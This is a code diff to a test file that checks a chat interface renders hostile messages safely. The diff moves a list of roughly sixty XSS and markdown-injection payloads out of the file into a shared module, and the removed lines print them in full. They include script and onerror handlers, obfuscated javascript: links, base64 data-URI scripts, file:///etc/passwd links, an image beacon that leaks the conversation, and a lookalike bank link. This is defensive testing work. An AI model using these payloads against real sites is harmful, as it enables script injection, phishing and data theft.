@@ -2,6 +2,7 @@
 import { afterAll, beforeAll, expect, onTestFinished, test } from 'vitest'
 import { rows, runEvents } from '../../support/chat-events.ts'
 import { mainKey, scriptChatGateway, tellEvents } from '../../support/chat-gateway.ts'
+import { away, scripts } from '../../support/hostile-chat/scripts.ts'
 import { openWindowBench } from '../../support/window-bench.ts'
 import type { BenchWindow, WindowBench } from '../../support/window-bench.ts'
 
@@ -11,77 +12,10 @@ beforeAll(async () => {
 })
 afterAll(() => bench.close())
 
-const pwn = 'globalThis.pwned=1'
-const away = 'http://127.0.0.1:9/beacon'
-
-const probes = [
-  `<script>${pwn}</script>`,
-  `<img src=x onerror="${pwn}">`,
-  `<img src="${away}.png">`,
-  `<svg onload="${pwn}"><script>${pwn}</script></svg>`,
-  `<iframe src="${away}"></iframe><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
-  `<object data="${away}"></object><embed src="${away}">`,
-  `<video src="${away}" autoplay onerror="${pwn}"></video><audio src="${away}" autoplay></audio>`,
-  `<link rel="stylesheet" href="${away}.css"><style>@import url(${away}.css);body{background:url(${away})}</style>`,
-  `<base href="${away}/"><meta http-equiv="refresh" content="0;url=${away}">`,
-  `<form action="${away}" method="post"><input name=a autofocus onfocus="${pwn}"><button>go</button></form>`,
-  `<details open ontoggle="${pwn}">x</details>`,
-  `<a href="javascript:${pwn}">click</a>`,
-  `<math><mtext><table><mglyph><style><img src=x onerror="${pwn}">`,
-  `<noscript><p title="</noscript><img src=x onerror=${pwn}>">`,
-  `<template><script>${pwn}</script></template><portal src="${away}"></portal>`,
-  `<marquee onstart="${pwn}">x</marquee><body onload="${pwn}">`,
-  `<div style="background:url(${away})">x</div>`,
-  `<img srcset="${away} 1x" src="data:image/svg+xml,<svg onload=${pwn}>">`,
-  `[a](javascript:${pwn})`,
-  `[a](JaVaScRiPt:${pwn})`,
-  `[a](&#106;avascript:${pwn})`,
-  `[a](javascript&colon;${pwn})`,
-  `[a](java\nscript:${pwn})`,
-  `[a](\u0001javascript:${pwn})`,
-  `[a](data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLnB3bmVkPTE8L3NjcmlwdD4=)`,
-  `[a](vbscript:${pwn})`,
-  `[a](file:///etc/passwd)`,
-  `[a](//127.0.0.1:9/x)`,
-  `[a](/etc)`,
-  `[a](#/settings)`,
-  `[a](https://user:pw@127.0.0.1:9/)`,
-  `[a](https:\\\\127.0.0.1:9)`,
-  `[a](blob:${away})`,
-  `[a](<${away} "onmouseover=${pwn}">)`,
-  `[a]: javascript:${pwn}\n\n[a] [a][] [b][a]`,
-  `<javascript:${pwn}>`,
-  `![x](${away}.png)`,
-  `![x](${away}.png?leak=the+whole+conversation)`,
-  `![x](javascript:${pwn})`,
-  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Imdsb2JhbFRoaXMucHduZWQ9MSI+PC9zdmc+)`,
-  `![x](data:text/html,<script>${pwn}</script>)`,
-  `![x](file:///etc/passwd)`,
-  `[![x](${away}.png)](javascript:${pwn})`,
-  `![x][ref]\n\n[ref]: ${away}.png`,
-  `# <img src=x onerror=${pwn}>`,
-  `| a |\n|---|\n| <img src=x onerror=${pwn}> ![x](${away}) |`,
-  `- [ ] <input type=image src=${away} onerror=${pwn}>`,
-  `> <script src="${away}.js"></script>`,
-  `\`\`\`html\n<script>${pwn}</script>\n\`\`\``,
-  `\`\`\`"><img src=x onerror=${pwn}>\nx\n\`\`\``,
-  `~~~js onload=${pwn}\nx\n~~~`,
-  `text[^1]\n\n[^1]: <img src=x onerror=${pwn}> [a](javascript:${pwn})`,
-  `${away}/autolinked www.127.0.0.1 mail@127.0.0.1`,
-  `<!--><img src=x onerror=${pwn}>-->`,
-  `<![CDATA[<script>${pwn}</script>]]>`,
-  `<?php echo 1 ?><!DOCTYPE html><html><head>`,
-  '\u202Egnp.exe\u202C \u2066isolated\u2069 \u200Bzero\u200B width \uFEFF',
-  `[https://bank.com](https://xn--bnk-6ka.example/login)`,
-  `${'<div>'.repeat(500)}<script>${pwn}</script>`,
-  `${'> '.repeat(500)}<img src=${away}>`,
-  `$$\\href{javascript:${pwn}}{x}$$ {{constructor.constructor('${pwn}')()}} \${${pwn}}`,
-]
-
 async function openWith(messages: readonly unknown[]): Promise<BenchWindow> {
   const gateway = scriptChatGateway()
   gateway.rows.set(mainKey, [...messages])
-  gateway.sessions.push({ key: mainKey, label: probes[1], lastMessagePreview: probes[0] })
+  gateway.sessions.push({ key: mainKey, label: scripts[1], lastMessagePreview: scripts[0] })
   const window = await bench.open({
     hash: '#/chat',
     answers: gateway.answers,
@@ -114,9 +48,9 @@ async function nothingHappened(window: BenchWindow): Promise<void> {
   expect(window.page.url()).toBe(`${bench.origin}/#/chat`)
 }
 
-test(`${probes.length} hostile answers run nothing, fetch nothing and lead nowhere`, async () => {
-  const window = await openWith(probes.map(probe => rows.assistant(probe)))
-  await expect.poll(() => window.page.getByRole('article').count(), { timeout: 20_000 }).toBe(probes.length)
+test(`${scripts.length} hostile answers run nothing, fetch nothing and lead nowhere`, async () => {
+  const window = await openWith(scripts.map(probe => rows.assistant(probe)))
+  await expect.poll(() => window.page.getByRole('article').count(), { timeout: 20_000 }).toBe(scripts.length)
   await nothingHappened(window)
 
   // Whatever looks like a link asks first, in whichever way it is used.
@@ -135,22 +69,22 @@ test(`${probes.length} hostile answers run nothing, fetch nothing and lead nowhe
 })
 
 test('the same in a person’s words, a tool’s result, a thought, an error and a stream of single characters', async () => {
-  const everywhere = probes.join('\n\n')
+  const everywhere = scripts.join('\n\n')
   const window = await openWith([
     rows.user(everywhere),
     rows.assistant([
       { type: 'thinking', thinking: everywhere },
-      { type: 'toolCall', id: 'c1', name: probes[1], arguments: { probe: everywhere } },
+      { type: 'toolCall', id: 'c1', name: scripts[1], arguments: { probe: everywhere } },
     ]),
     rows.toolResult('c1', 'exec', everywhere),
     rows.assistant(
       [
-        { type: probes[1] },
+        { type: scripts[1] },
         { type: 'image', mimeType: 'image/svg+xml', data: 'PHN2Zz4=' },
         { type: 'image', url: away },
       ],
       {},
-      { stopReason: 'error', errorMessage: probes[1] },
+      { stopReason: 'error', errorMessage: scripts[1] },
     ),
   ])
   await window.page.getByText('The answer failed').waitFor()
@@ -158,7 +92,7 @@ test('the same in a person’s words, a tool’s result, a thought, an error and
   await window.page.getByText('Result', { exact: true }).waitFor()
 
   const run = runEvents('stream')
-  const text = [...probes.slice(0, 12), probes[36]].join('\n\n')
+  const text = [...scripts.slice(0, 12), scripts[36]].join('\n\n')
   await window.page.evaluate(
     ({ payloads }) => {
       for (const payload of payloads) benchTell('gateway.event', { event: 'chat', payload })
